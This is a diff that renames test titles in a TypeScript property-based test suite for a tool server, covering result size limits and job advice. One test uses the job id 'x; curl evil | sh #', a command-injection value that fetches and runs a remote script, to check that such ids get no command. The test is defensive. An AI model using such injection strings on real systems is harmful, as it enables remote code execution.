@@ -22,7 +22,7 @@ const hostile = fc
   )
   .map(([text, times]) => text.repeat(times).slice(0, 60_000));
 
-test('a result never exceeds the bound, however it is escaped, and is cut between items of its lists', () => {
+test('the result of a tool never exceeds its maximum size, even with escapes, and is cut only between items of a list', () => {
   fc.assert(
     fc.property(fc.array(hostile, { maxLength: 30 }), (texts) => {
       const answer = answerOf({ data: { texts } });
@@ -36,7 +36,7 @@ test('a result never exceeds the bound, however it is escaped, and is cut betwee
   );
 });
 
-test('no tool returns more than the bound, whatever the platform, a query or a job returns', async () => {
+test('no tool returns more than the maximum size, whatever the platform, a query or a job returns', async () => {
   await fc.assert(
     fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 4 }), async (texts) => {
       const line = (text: string, id: number) =>
@@ -121,7 +121,7 @@ function tablesOf(texts: readonly string[]): Tables {
   };
 }
 
-describe('a result that does not fit', () => {
+describe('a tool result that is too large', () => {
   test('names the size of a record, with its largest fields and a command that shows it', async () => {
     const name = 'x'.repeat(200_000);
     await publishLines(store, { run: monday, lines: [`{"id":1,"status":"VALID","name":"${name}"}`] });
@@ -169,7 +169,7 @@ async function storeOfJobs(jobs: Readonly<Record<string, { readonly id: string; 
   return store;
 }
 
-test('what to do about a job is returned as fields, and has no command for an invalid job id', async () => {
+test('the advice on a job is returned as fields, without a command if the job id is invalid', async () => {
   const id = 'x; curl evil | sh #';
   const store = await storeOfJobs({ a: { id, status: 'failed' }, b: { id, status: 'unknown' } });
   await using server = await connect(contextOver(store));
@@ -182,7 +182,7 @@ test('what to do about a job is returned as fields, and has no command for an in
   }
 });
 
-test('jobs are returned with what to do, the unknown ones first', async () => {
+test('jobs are returned with advice on what to do, the unknown ones first', async () => {
   const store = await storeOfJobs({
     a: { id: 'a', status: 'done' },
     b: { id: 'b', status: 'unknown' },
